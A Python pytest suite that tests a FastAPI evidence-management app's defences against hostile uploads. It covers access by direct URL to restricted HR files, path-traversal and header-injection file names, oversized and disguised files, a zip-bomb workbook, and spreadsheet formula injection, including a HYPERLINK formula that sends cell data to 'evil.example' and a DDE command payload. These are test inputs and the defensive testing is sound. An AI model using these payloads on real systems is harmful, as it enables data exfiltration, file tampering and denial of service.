"""Hostile files: restricted evidence reached by direct URL, path tricks in file names,
oversized and malformed uploads, and spreadsheets with formulas or inflated sheets.

Every upload here runs against its own data directory with a 1 MB upload limit, so each test
can check the whole tree on disk before and after, and "just over the limit" stays small."""

import asyncio
import io
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator, MutableMapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from httpx import Response
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.formula import ArrayFormula
from sqlmodel import Session, col, func, select

from app.main import create_app
from app.models.audit import ChecklistEvidence, ChecklistItem
from app.models.evidence import (
    Confidentiality,
    Evidence,
    EvidenceCreate,
    EvidenceRequirement,
    EvidenceRevision,
)
from app.models.self_assessment import SelfAssessment
from app.models.user import Role, User
from app.routers import evidence_excel as evidence_excel_router
from app.routers import self_assessments as self_assessments_router
from app.services.accounts import api_tokens as api_token_service
from app.services.evidence import approval
from app.services.evidence import links as evidence_links
from app.services.evidence import service as evidence_service
from app.services.evidence.service import Upload, UploadLimits
from app.settings import Settings
from app.web.http import MULTIPART_OVERHEAD
from tests.factories import (
    HX,
    NOW,
    PDF,
    clauses,
    csrf,
    first_clause,
    make_audit,
    make_department,
    make_settings,
    make_user,
    sign_in,
)

SECRET_PDF = PDF.replace(b"<<>>", b"<< /Salary (42000) >>")
LIMIT_MB = 1
BOUNDARY = "hostile-boundary-5f1c"
XLSX_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@pytest.fixture
def upload_settings(settings: Settings, tmp_path: Path) -> Settings:
    """The suite's settings with a data directory of this test's own and a 1 MB limit."""
    return make_settings(tmp_path / "data", settings.database_url or "").model_copy(
        update={"upload_max_mb": LIMIT_MB}
    )


@pytest.fixture
def app(upload_settings: Settings, connection: Any) -> FastAPI:
    application = create_app(upload_settings)
    application.state.engine.dispose()
    application.state.session_factory = lambda: Session(
        bind=connection, join_transaction_mode="create_savepoint", expire_on_commit=False
    )
    return application


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")} if root.exists() else set()


def _files(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


def _api_headers(session: Session, user: User) -> dict[str, str]:
    _token, secret = api_token_service.create(
        session=session, now=NOW, user_id=user.id or 0, name="hostile"
    )
    session.commit()
    return {"Authorization": f"Bearer {secret}"}


def _upload_headers(client: TestClient) -> dict[str, str]:
    return {**HX, "HX-Target": "evidence-revisions", "X-CSRF-Token": csrf(client)}


def _multipart(disposition: bytes, content: bytes, *, end: bool = True) -> bytes:
    """A multipart body with one file part whose Content-Disposition is sent byte for byte
    (httpx would percent-escape the control characters this file is about)."""
    body = (
        f"--{BOUNDARY}\r\n".encode()
        + b"Content-Disposition: "
        + disposition
        + b"\r\nContent-Type: application/octet-stream\r\n\r\n"
        + content
    )
    return body + (f"\r\n--{BOUNDARY}--\r\n".encode() if end else b"")


def _post_raw(client: TestClient, url: str, body: bytes, headers: dict[str, str]) -> Response:
    response: Response = client.post(
        url,
        content=body,
        headers={**headers, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
    )
    return response


def _new_evidence(session: Session, owner: User, **overrides: Any) -> Evidence:
    evidence = evidence_service.create(
        session=session,
        now=NOW,
        actor_id=owner.id,
        data=EvidenceCreate(**{"title": "文件控制程序", "owner_id": owner.id, **overrides}),
    )
    session.commit()
    return evidence


def _revisions(session: Session, evidence: Evidence) -> list[EvidenceRevision]:
    return list(
        session.exec(
            select(EvidenceRevision).where(EvidenceRevision.evidence_id == evidence.id)
        ).all()
    )


def _register_sheet(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["编号", "标题", "类型", "责任人", "部门", "周期", "复审", "保存", "条款", "说明"])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- 1. restricted evidence by direct URL ---------------------------------------------------

TITLE = "薪酬台账（限人力资源部）"


class Restricted:
    """A restricted item of HR with an approved file, linked to a clause and pinned on an
    audit checklist, and the ids a hostile user would type into URLs."""

    def __init__(self, session: Session, settings: Settings) -> None:
        self.hr = make_department(session)
        self.sales = make_department(session)
        self.owner = make_user(session, roles=[Role.owner], department_id=self.hr.id)
        self.requirement = first_clause(session)
        self.other_requirement = next(
            c.id for c in clauses(session, 3) if c.id != self.requirement.id
        )
        self.evidence = _new_evidence(
            session,
            self.owner,
            title=TITLE,
            confidentiality=Confidentiality.restricted,
            department_id=self.hr.id,
        )
        self.revision, _stored = evidence_service.add_revision(
            session=session,
            now=NOW,
            actor_id=self.owner.id,
            evidence=self.evidence,
            upload=Upload("薪酬台账-2026.pdf", io.BytesIO(SECRET_PDF)),
            limits=UploadLimits.from_settings(settings),
        )
        approval.submit(session=session, now=NOW, actor_id=self.owner.id, evidence=self.evidence)
        executive = make_user(session, roles=[Role.executive])
        approval.approve(
            session=session,
            now=NOW,
            actor_id=executive.id or 0,
            evidence=self.evidence,
            revision_id=self.revision.id,
        )
        evidence_links.link(
            session=session,
            now=NOW,
            actor_id=None,
            evidence=self.evidence,
            kind_name="requirement",
            target_id=self.requirement.id or 0,
        )
        auditor = make_user(session, roles=[Role.auditor])
        self.audit = make_audit(session, lead=auditor, requirements=[self.requirement], start=True)
        self.item = session.exec(
            select(ChecklistItem).where(
                ChecklistItem.audit_id == self.audit.id,
                ChecklistItem.requirement_id == self.requirement.id,
            )
        ).one()
        session.add(ChecklistEvidence(item_id=self.item.id or 0, revision_id=self.revision.id or 0))
        session.commit()

    def state(self, session: Session) -> tuple[Any, ...]:
        session.expire_all()
        evidence = session.get(Evidence, self.evidence.id)
        assert evidence is not None
        links = session.exec(
            select(func.count())
            .select_from(EvidenceRequirement)
            .where(EvidenceRequirement.evidence_id == self.evidence.id)
        ).one()
        return (
            evidence.title,
            evidence.status,
            evidence.confidentiality,
            len(_revisions(session, evidence)),
            links,
        )


@pytest.fixture
def restricted(session: Session, upload_settings: Settings) -> Restricted:
    return Restricted(session, upload_settings)


def _pages(r: Restricted) -> list[str]:
    """Pages that show the item, or lists that would."""
    e, rev = r.evidence.id, r.revision.id
    return [
        f"/evidence/{e}",
        f"/evidence/{e}/revisions/{rev}/download",
        "/evidence",
        "/evidence?q=%E8%96%AA%E9%85%AC",  # 薪酬
        f"/evidence?requirement={r.requirement.id}",
        f"/requirements/{r.requirement.id}",
        f"/audits/{r.audit.id}/checklist",
    ]


class TestRestrictedEvidenceByDirectUrl:
    @pytest.mark.parametrize("role", [Role.owner, Role.viewer])
    def test_other_departments_get_neither_title_nor_bytes_from_any_url(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        restricted: Restricted,
        role: Role,
    ) -> None:
        r = restricted
        e, rev = r.evidence.id, r.revision.id
        intruder = make_user(session, roles=[role], department_id=r.sales.id)
        sign_in(client, session, intruder)
        api = _api_headers(session, intruder)
        before, files_before = r.state(session), _tree(upload_settings.data_dir)
        token = csrf(client)
        form = {"csrf_token": token}
        refused: list[tuple[str, str, Response]] = []
        for url in (
            f"/evidence/{e}",
            f"/evidence/{e}/edit",
            f"/evidence/{e}/revisions/{rev}/download",
            "/dossiers",
        ):
            refused.append(("GET", url, client.get(url)))
        fragment = client.get(f"/evidence/{e}", headers={**HX, "HX-Target": "evidence-revisions"})
        refused.append(("GET", f"/evidence/{e} (htmx)", fragment))
        for url in (f"/api/v1/evidence/{e}", f"/api/v1/evidence/{e}/revisions/{rev}/download"):
            refused.append(("GET", url, client.get(url, headers=api)))
        posts: list[tuple[str, dict[str, str]]] = [
            (f"/evidence/{e}", {"title": "改掉的标题", "kind": "document"}),
            (f"/evidence/{e}/submit", {}),
            (f"/evidence/{e}/approve", {}),
            (f"/evidence/{e}/return", {"reason": "x"}),
            (f"/evidence/{e}/obsolete", {}),
            (
                f"/evidence/{e}/links",
                {"kind": "requirement", "target_id": str(r.other_requirement)},
            ),
            (f"/evidence/{e}/links/requirement/{r.requirement.id}/delete", {}),
            (f"/requirements/{r.other_requirement}/evidence", {"evidence_id": str(e)}),
            (
                f"/audits/{r.audit.id}/checklist/{r.item.id}",
                {"result": "conforming", "revision_ids": str(rev)},
            ),
        ]
        for url, data in posts:
            refused.append(("POST", url, client.post(url, data={**data, **form})))
        upload = client.post(
            f"/evidence/{e}/revisions",
            files={"file": ("替换.pdf", PDF)},
            headers=_upload_headers(client),
        )
        refused.append(("POST", f"/evidence/{e}/revisions", upload))
        api_upload = client.post(
            f"/api/v1/evidence/{e}/revisions", files={"file": ("替换.pdf", PDF)}, headers=api
        )
        refused.append(("POST", f"/api/v1/evidence/{e}/revisions", api_upload))

        for method, url, response in refused:
            assert response.status_code in (403, 404), (method, url, response.status_code)
            assert "薪酬台账" not in response.text, (method, url)
            assert SECRET_PDF not in response.content, (method, url)
        assert r.state(session) == before
        assert _tree(upload_settings.data_dir) == files_before

        for url in _pages(r)[2:]:
            page = client.get(url)
            assert page.status_code == 200, url
            assert "薪酬台账" not in page.text, url
        listed = client.get("/api/v1/evidence?q=%E8%96%AA%E9%85%AC", headers=api).json()
        assert listed["total"] == 0
        assert "受限证据" in client.get(f"/audits/{r.audit.id}/checklist").text
        export = client.get("/evidence/export.xlsx")
        if role == Role.viewer:
            assert export.status_code == 403
        else:
            book = load_workbook(io.BytesIO(export.content), read_only=True)
            cells = [v for row in book.worksheets[0].iter_rows(values_only=True) for v in row]
            assert not any(isinstance(v, str) and "薪酬台账" in v for v in cells)

    def test_a_colleague_in_the_department_and_an_auditor_do_see_it(
        self, client: TestClient, session: Session, restricted: Restricted
    ) -> None:
        """The other side of the rule, so the refusals above are not just broken URLs.
        Internal auditors see restricted evidence of every department, by design."""
        r = restricted
        for user in (
            make_user(session, roles=[Role.viewer], department_id=r.hr.id),
            make_user(session, roles=[Role.auditor], department_id=r.sales.id),
        ):
            sign_in(client, session, user)
            for url in _pages(r):
                page = client.get(url)
                assert page.status_code == 200, url
                if url.endswith("/download"):
                    assert page.content == SECRET_PDF
                else:
                    assert "薪酬台账" in page.text, url
            api = _api_headers(session, user)
            detail = client.get(f"/api/v1/evidence/{r.evidence.id}", headers=api).json()
            assert detail["title"] == TITLE


# --- 2. path tricks in file names -----------------------------------------------------------

REFUSED_NAMES = [
    (b'filename="../../etc/passwd"', "文件名不得包含路径分隔符。"),
    (b'filename="../../etc/passwd.pdf"', "文件名不得包含路径分隔符。"),
    (b'filename="..\\\\..\\\\boot.ini"', "文件名不得包含路径分隔符。"),
    (b'filename="..\\..\\boot.pdf"', "文件名不得包含路径分隔符。"),
    (b'filename="/abs/path.pdf"', "文件名不得包含路径分隔符。"),
    # RFC 7578 forbids the extended syntax; the parser ignores it, so there is no file at all.
    (b"filename*=UTF-8''..%2F..%2Fetc%2Fcron.d%2Fx.pdf", "请选择文件。"),
    (b'filename="a\x00b.pdf"', "文件名包含控制字符。"),
    (b"filename*=UTF-8''a%00b.pdf", "请选择文件。"),
    (b"filename*=UTF-8''a%0D%0ASet-Cookie%3A%20x%3D1.pdf", "请选择文件。"),
    ('filename="合同\u202etxt.pdf"'.encode(), "文件名包含控制字符。"),
    (('filename="' + "长" * 300 + '.pdf"').encode(), "文件名超过 255 个字符。"),
    (b'filename="CON"', "不接受此类型的文件。"),
    (b'filename="..."', "不接受此类型的文件。"),
    (b'filename=".."', "文件名不得包含路径分隔符。"),
    (b'filename="."', "文件名不得包含路径分隔符。"),
]


class TestHostileFileNames:
    @pytest.fixture
    def evidence(self, client: TestClient, session: Session) -> Evidence:
        owner = make_user(session, roles=[Role.owner])
        sign_in(client, session, owner)
        return _new_evidence(session, owner)

    @pytest.mark.parametrize(("disposition", "message"), REFUSED_NAMES)
    def test_a_name_with_a_path_or_control_characters_is_refused_and_stores_nothing(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        tmp_path: Path,
        evidence: Evidence,
        disposition: bytes,
        message: str,
    ) -> None:
        passwd = Path("/etc/passwd").stat()
        before = _tree(tmp_path)
        response = _post_raw(
            client,
            f"/evidence/{evidence.id}/revisions",
            _multipart(b'form-data; name="file"; ' + disposition, PDF),
            _upload_headers(client),
        )
        assert response.status_code == 422
        assert message in response.text
        assert _tree(tmp_path) == before
        assert Path("/etc/passwd").stat() == passwd
        assert not Path("/abs").exists()
        assert _revisions(session, evidence) == []

    def test_a_raw_line_break_in_the_name_is_a_clear_refusal(
        self, client: TestClient, session: Session, tmp_path: Path, evidence: Evidence
    ) -> None:
        before = _tree(tmp_path)
        response = _post_raw(
            client,
            f"/evidence/{evidence.id}/revisions",
            _multipart(b'form-data; name="file"; filename="a\r\nX-Injected: 1.pdf"', PDF),
            _upload_headers(client),
        )
        assert 400 <= response.status_code < 500
        assert "x-injected" not in response.headers
        assert _tree(tmp_path) == before
        assert _revisions(session, evidence) == []

    @pytest.mark.parametrize(
        ("disposition", "shown"),
        [
            (b'filename="C:\\\\Users\\\\me\\\\report.pdf"', "report.pdf"),
            (b'filename="CON.pdf"', "CON.pdf"),
            (b'filename="evil\\".pdf"', 'evil".pdf'),
            (b'filename="a;b=c.pdf"', "a;b=c.pdf"),
            ('filename="质量手册 第2版.pdf"'.encode(), "质量手册 第2版.pdf"),
        ],
    )
    def test_an_accepted_name_is_stored_under_the_hash_and_served_safely(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        tmp_path: Path,
        evidence: Evidence,
        disposition: bytes,
        shown: str,
    ) -> None:
        before = _tree(tmp_path)
        response = _post_raw(
            client,
            f"/evidence/{evidence.id}/revisions",
            _multipart(b'form-data; name="file"; ' + disposition, PDF),
            _upload_headers(client),
        )
        assert response.status_code == 200, response.text
        (revision,) = _revisions(session, evidence)
        assert revision.original_name == shown
        sha = revision.sha256 or ""
        stored = Path("data") / "files" / sha[:2] / sha[2:4] / sha
        assert _files(tmp_path) - before == {str(stored)}
        assert (tmp_path / stored).read_bytes() == PDF
        new = _tree(tmp_path) - before
        assert all(p == "data" or p.startswith("data/files") for p in new), new

        download = client.get(f"/evidence/{evidence.id}/revisions/{revision.id}/download")
        assert download.content == PDF
        disposition_header = download.headers["content-disposition"]
        assert disposition_header.isprintable()
        assert disposition_header.isascii()
        assert disposition_header.count(";") == 1
        kind, _sep, param = disposition_header.partition("; ")
        assert kind == "attachment"
        if param.startswith("filename*=utf-8''"):
            served = unquote(param.removeprefix("filename*=utf-8''"))
        else:
            assert param.startswith('filename="')
            assert param.endswith('"')
            served = param[len('filename="') : -1]
            assert '"' not in served
        assert served == shown
        assert not {"/", "\\"} & set(served)

    def test_an_import_ignores_the_uploaded_name(
        self, client: TestClient, session: Session, tmp_path: Path
    ) -> None:
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        escape = "../../../owned.xlsx"
        response = _post_raw(
            client,
            "/evidence/import",
            _multipart(
                f'form-data; name="file"; filename="{escape}"'.encode(),
                _register_sheet([["R-1", "文件控制程序"]]),
            ),
            {"X-CSRF-Token": csrf(client)},
        )
        assert response.status_code == 200
        assert all(p == "data" or p.startswith("data/imports") for p in _tree(tmp_path))
        assert not (tmp_path / "data" / "imports" / escape).resolve().exists()
        assert not list(tmp_path.parent.glob("**/owned.xlsx"))


# --- 3. oversized and malformed uploads -----------------------------------------------------


@dataclass(frozen=True)
class Endpoint:
    """One of the upload endpoints, with what it takes to post a file to it: the plain forms
    carry their CSRF token as a field, the others in a header."""

    url: str
    headers: dict[str, str]
    fields: dict[str, str]

    def post(self, client: TestClient, name: str, content: bytes) -> Response:
        response: Response = client.post(
            self.url,
            files={"file": (name, content)},
            data=self.fields or None,
            headers=self.headers,
        )
        return response


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


_ZIP_OF_A_PROGRAM = _zip({"setup.exe": "MZ\x90\x00"})
_ZIP_OF_A_DOCUMENT = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"})
ENDPOINTS = ["revision (htmx)", "revision (form)", "revision (API)", "register import", "SA import"]


@pytest.fixture
def endpoints(client: TestClient, session: Session) -> dict[str, Endpoint]:
    admin = make_user(session, roles=[Role.admin])
    sign_in(client, session, admin)
    evidence = _new_evidence(session, admin)
    token = csrf(client)
    revisions = f"/evidence/{evidence.id}/revisions"
    return {
        "revision (htmx)": Endpoint(revisions, _upload_headers(client), {}),
        "revision (form)": Endpoint(revisions, {}, {"csrf_token": token}),
        "revision (API)": Endpoint(f"/api/v1{revisions}", _api_headers(session, admin), {}),
        "register import": Endpoint("/evidence/import", {"X-CSRF-Token": token}, {}),
        "SA import": Endpoint("/self-assessments/import", {}, {"csrf_token": token}),
    }


def _nothing_kept(session: Session, data_dir: Path) -> None:
    assert _files(data_dir) == set(), _files(data_dir)  # no file, no temporary, no preview
    assert session.exec(select(func.count()).select_from(EvidenceRevision)).one() == 0


def _drive(
    app: FastAPI, url: str, headers: dict[str, str], size: int, *, declare: bool
) -> tuple[int, bytes, int]:
    """Post a file of `size` bytes straight to the ASGI app in 64 KiB chunks, with or without
    a Content-Length; returns the status, the answer and how many body bytes were taken."""
    head = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
    tail = f"\r\n--{BOUNDARY}--\r\n".encode()
    chunk = b"x" * 65536

    def chunks() -> Iterator[bytes]:
        yield head
        for _ in range(size // len(chunk)):
            yield chunk
        yield tail

    pending = chunks()
    taken = 0
    status = 0
    answer = b""

    async def receive() -> dict[str, Any]:
        nonlocal taken
        body = next(pending, None)
        if body is None:
            return {"type": "http.disconnect"}
        taken += len(body)
        return {"type": "http.request", "body": body, "more_body": body is not tail}

    async def send(message: MutableMapping[str, Any]) -> None:
        nonlocal status, answer
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body":
            answer += message.get("body", b"")

    raw = [(k.lower().encode(), v.encode()) for k, v in headers.items()]
    raw += [
        (b"host", b"testserver"),
        (b"content-type", f"multipart/form-data; boundary={BOUNDARY}".encode()),
    ]
    if declare:
        raw.append((b"content-length", str(len(head) + size + len(tail)).encode()))
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": url.split("?")[0],
        "raw_path": url.encode(),
        "query_string": b"",
        "headers": raw,
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
        "root_path": "",
    }
    # On a thread of its own: the browser tests leave an event loop running on this one.
    with ThreadPoolExecutor(max_workers=1) as pool:
        pool.submit(asyncio.run, app(scope, receive, send)).result()
    return status, answer, taken


def _cookies(client: TestClient) -> dict[str, str]:
    return {"Cookie": "; ".join(f"{c.name}={c.value}" for c in client.cookies.jar)}


def _malformed(case: str, fields: dict[str, str]) -> tuple[bytes, str]:
    """A broken request body of the given kind, with the form's other fields, and its type."""
    multipart = f"multipart/form-data; boundary={BOUNDARY}"
    before = b"".join(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
        for k, v in fields.items()
    )
    file_part = b'form-data; name="file"; filename="a.pdf"'
    return {
        "no file field": (before + f"--{BOUNDARY}--\r\n".encode(), multipart),
        "empty file name": (
            before + _multipart(b'form-data; name="file"; filename=""', PDF),
            multipart,
        ),
        "cut off mid-file": (before + _multipart(file_part, PDF[:20], end=False), multipart),
        "garbage body": (b"\x00\xff" * 500 + f"--{BOUNDARY}\r\n\r\n".encode(), multipart),
        "no boundary": (before, "multipart/form-data"),
        "not multipart": (b'{"file": "JVBERi0="}', "application/json"),
        "two files": (
            before
            + _multipart(file_part, PDF, end=False)
            + b"\r\n"
            + _multipart(b'form-data; name="file"; filename="b.pdf"', PDF + b"%"),
            multipart,
        ),
    }[case]


class TestOversizedAndMalformedUploads:
    @pytest.mark.parametrize("name", ENDPOINTS)
    @pytest.mark.parametrize("declare", [True, False], ids=["declared", "chunked"])
    def test_a_huge_body_is_413_before_it_is_read(
        self,
        app: FastAPI,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        endpoints: dict[str, Endpoint],
        name: str,
        declare: bool,
    ) -> None:
        endpoint = endpoints[name]
        # The plain forms send no token header: the CSRF check itself starts reading the body.
        headers = {**endpoint.headers, **_cookies(client)}
        size = 20 * 1024 * 1024
        started = time.monotonic()
        status, answer, taken = _drive(app, endpoint.url, headers, size, declare=declare)
        assert status == 413
        assert "文件大小超过" in answer.decode()
        limit = LIMIT_MB * 1024 * 1024 + MULTIPART_OVERHEAD
        assert taken <= (0 if declare else limit + 65536)  # at most the chunk that crossed it
        assert time.monotonic() - started < 5
        _nothing_kept(session, upload_settings.data_dir)

    @pytest.mark.parametrize("name", ["revision (htmx)", "revision (form)", "revision (API)"])
    def test_one_byte_over_the_limit_is_413_and_leaves_nothing(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        endpoints: dict[str, Endpoint],
        name: str,
    ) -> None:
        big = b"x" * (LIMIT_MB * 1024 * 1024 + 1)
        response = endpoints[name].post(client, "big.txt", big)
        assert response.status_code == 413
        assert "文件大小超过 1 MB。" in response.text
        _nothing_kept(session, upload_settings.data_dir)
        exactly = endpoints[name].post(client, "ok.txt", big[:-1])
        assert exactly.status_code in (200, 201)

    @pytest.mark.parametrize(
        ("name", "router"),
        [("register import", evidence_excel_router), ("SA import", self_assessments_router)],
    )
    def test_an_import_one_byte_over_its_own_limit_is_refused_without_a_preview(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        endpoints: dict[str, Endpoint],
        monkeypatch: pytest.MonkeyPatch,
        name: str,
        router: Any,
    ) -> None:
        # The same check, scaled down to 1 MB (the body limit of this test's settings is 2 MB).
        monkeypatch.setattr(router, "IMPORT_MAX_MB", 1)
        response = endpoints[name].post(client, "big.xlsx", b"x" * (1024 * 1024 + 1))
        assert response.status_code == 422
        assert "文件大小超过 1 MB" in response.text
        _nothing_kept(session, upload_settings.data_dir)

    @pytest.mark.parametrize("name", ENDPOINTS)
    @pytest.mark.parametrize(
        ("content", "filename", "refusal"),
        [
            (b"", "empty.pdf", "文件为空。"),
            (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(64), "scan.pdf", "与其扩展名 .pdf 不符"),
            (b"\x7fELF\x02\x01\x01" + bytes(64), "notes.txt", "与其扩展名 .txt 不符"),
            (PDF, "sheet.xlsx", "与其扩展名 .xlsx 不符"),
        ],
        ids=["empty", "executable named pdf", "binary named txt", "pdf named xlsx"],
    )
    def test_empty_or_lying_files_are_refused_next_to_the_field(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        endpoints: dict[str, Endpoint],
        name: str,
        content: bytes,
        filename: str,
        refusal: str,
    ) -> None:
        response = endpoints[name].post(client, filename, content)
        assert response.status_code == 422, response.text
        if name.endswith("import"):  # the name is not looked at; the content is
            refusal = "该文件不是可读取的 Excel（.xlsx）文件。"
        assert refusal in response.text
        _nothing_kept(session, upload_settings.data_dir)

    @pytest.mark.parametrize("name", ["revision (htmx)", "revision (API)"])
    @pytest.mark.parametrize(
        ("content", "filename", "accepted"),
        [
            (_ZIP_OF_A_PROGRAM, "年度报告.docx", False),
            (_ZIP_OF_A_PROGRAM, "清单.xlsx", False),
            (_ZIP_OF_A_PROGRAM, "演示.pptx", False),
            (_ZIP_OF_A_PROGRAM, "制度.odt", False),
            (_ZIP_OF_A_DOCUMENT, "清单.xlsx", False),
            (_ZIP_OF_A_PROGRAM, "工具.zip", True),  # an archive may come as what it is
            (_ZIP_OF_A_DOCUMENT, "年度报告.docx", True),
            (_register_sheet([["R-1", "文件控制程序"]]), "清单.xlsx", True),
        ],
        ids=[
            "zip as docx",
            "zip as xlsx",
            "zip as pptx",
            "zip as odt",
            "docx as xlsx",
            "zip as zip",
            "docx as docx",
            "xlsx as xlsx",
        ],
    )
    def test_an_archive_is_not_taken_for_an_office_document(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        endpoints: dict[str, Endpoint],
        name: str,
        content: bytes,
        filename: str,
        accepted: bool,
    ) -> None:
        response = endpoints[name].post(client, filename, content)
        if accepted:
            assert response.status_code in (200, 201), response.text
            assert len(_files(upload_settings.data_dir)) == 1
            return
        assert response.status_code == 422
        extension = filename.rsplit(".", 1)[1]
        assert f"文件内容与其扩展名 .{extension} 不符。" in response.text
        _nothing_kept(session, upload_settings.data_dir)

    @pytest.mark.parametrize("name", ENDPOINTS)
    @pytest.mark.parametrize(
        "case",
        [
            "no file field",
            "empty file name",
            "cut off mid-file",
            "garbage body",
            "no boundary",
            "not multipart",
            "two files",
        ],
    )
    def test_missing_or_malformed_bodies_are_4xx_not_5xx(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        endpoints: dict[str, Endpoint],
        name: str,
        case: str,
    ) -> None:
        endpoint = endpoints[name]
        body, content_type = _malformed(case, endpoint.fields)
        headers = {**endpoint.headers, "Content-Type": content_type}
        response = client.post(endpoint.url, content=body, headers=headers)
        if case == "two files" and response.status_code < 300:
            # A form read before the route (for its CSRF token, or by FastAPI for the API)
            # has no one-file limit; the route takes one: stored once, the other nowhere.
            assert len(_files(upload_settings.data_dir)) <= 1
            assert session.exec(select(func.count()).select_from(EvidenceRevision)).one() <= 1
            return
        assert 400 <= response.status_code < 500, (case, response.status_code, response.text)
        assert "Invalid" not in response.text  # the user's language, not Starlette's
        _nothing_kept(session, upload_settings.data_dir)


# --- 4. spreadsheets: formulas and inflated sheets ------------------------------------------


def _with_sheet_xml(sheet_xml: bytes | Iterator[bytes]) -> bytes:
    """A real workbook whose sheet is the given XML (streamed, if an iterator)."""
    template = _register_sheet([])
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item.filename, source.read(item))
            elif isinstance(sheet_xml, bytes):
                target.writestr(item.filename, sheet_xml)
            else:
                with target.open(item.filename, "w") as part:
                    for piece in sheet_xml:
                        part.write(piece)
    return out.getvalue()


def _sheet_xml(rows: str, dimension: str = "") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {XLSX_NS}>{dim}<sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c></row>{rows}'
        "</sheetData></worksheet>"
    ).encode()


def _text_row(number: int, *values: str, first_column: int = 1) -> str:
    cells = "".join(
        f'<c r="{get_column_letter(i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values, start=first_column)
    )
    return f'<row r="{number}">{cells}</row>'


def _measured(call: Callable[[], Response]) -> tuple[Response, float, int]:
    """The answer, the seconds it took and the peak of memory allocated meanwhile."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        response = call()
        elapsed = time.monotonic() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return response, elapsed, peak


BOMB_MB = 300
# Reading all of a 300 MB sheet takes minutes; being cut off takes about a second (under
# tracemalloc), a few on a loaded two-core machine. The bound tells the two apart without
# failing on a busy CI run.
CUT_OFF_SECONDS = 10


@cache
def _zip_bomb() -> bytes:
    """A workbook of a few hundred kilobytes whose sheet unpacks to 300 MB of one text cell."""

    def xml() -> Iterator[bytes]:
        yield (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet {XLSX_NS}><sheetData>'
            '<row r="2"><c r="B2" t="inlineStr"><is><t>'
        ).encode()
        block = b"A" * (1024 * 1024)
        for _ in range(BOMB_MB):
            yield block
        yield b"</t></is></c></row></sheetData></worksheet>"

    return _with_sheet_xml(xml())


def _understate_size(workbook: bytes, member: str, declared: int) -> bytes:
    """The same zip, but its directory claims `member` unpacks to only `declared` bytes (the
    directory at the end is what zipfile reads sizes from)."""
    data = bytearray(workbook)
    entry = data.rindex(member.encode()) - 46  # the name's last copy is in the directory
    assert data[entry : entry + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, entry + 24, declared)
    return bytes(data)


def _preview(client: TestClient, url: str, content: bytes) -> Response:
    response: Response = client.post(
        url, files={"file": ("表.xlsx", content)}, headers={"X-CSRF-Token": csrf(client)}
    )
    return response


def _token(response: Response) -> str:
    return response.text.split('name="token" value="')[1].split('"')[0]


IMPORTS = {"register": "/evidence/import", "self-assessment": "/self-assessments/import"}


class TestFormulas:
    def test_formulas_are_refused_per_row_and_lookalikes_stay_inert_through_export(
        self, client: TestClient, session: Session, upload_settings: Settings
    ) -> None:
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.append(["编号", "标题", "类型"])
        formulas = [
            "=1+1",
            '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
            "=cmd|' /C calc'!A0",
            "  =1+1",
        ]
        for n, formula in enumerate(formulas, start=1):
            sheet.append([f"F-{n}", formula, "文件"])
        sheet.append(["F-5", "数组公式", "文件"])
        sheet["B6"] = ArrayFormula("B6", "=SUM(1,1)")
        sheet.append(["F-6", "说明里有公式", "文件", None, None, None, None, None, None, "=2*3"])
        inert = ["@SUM(1,2)", "+1+1", "-1+1", "\t制表符开头"]
        for n, text in enumerate(inert, start=1):
            sheet.append([f"T-{n}", text, "文件"])
        buffer = io.BytesIO()
        book.save(buffer)

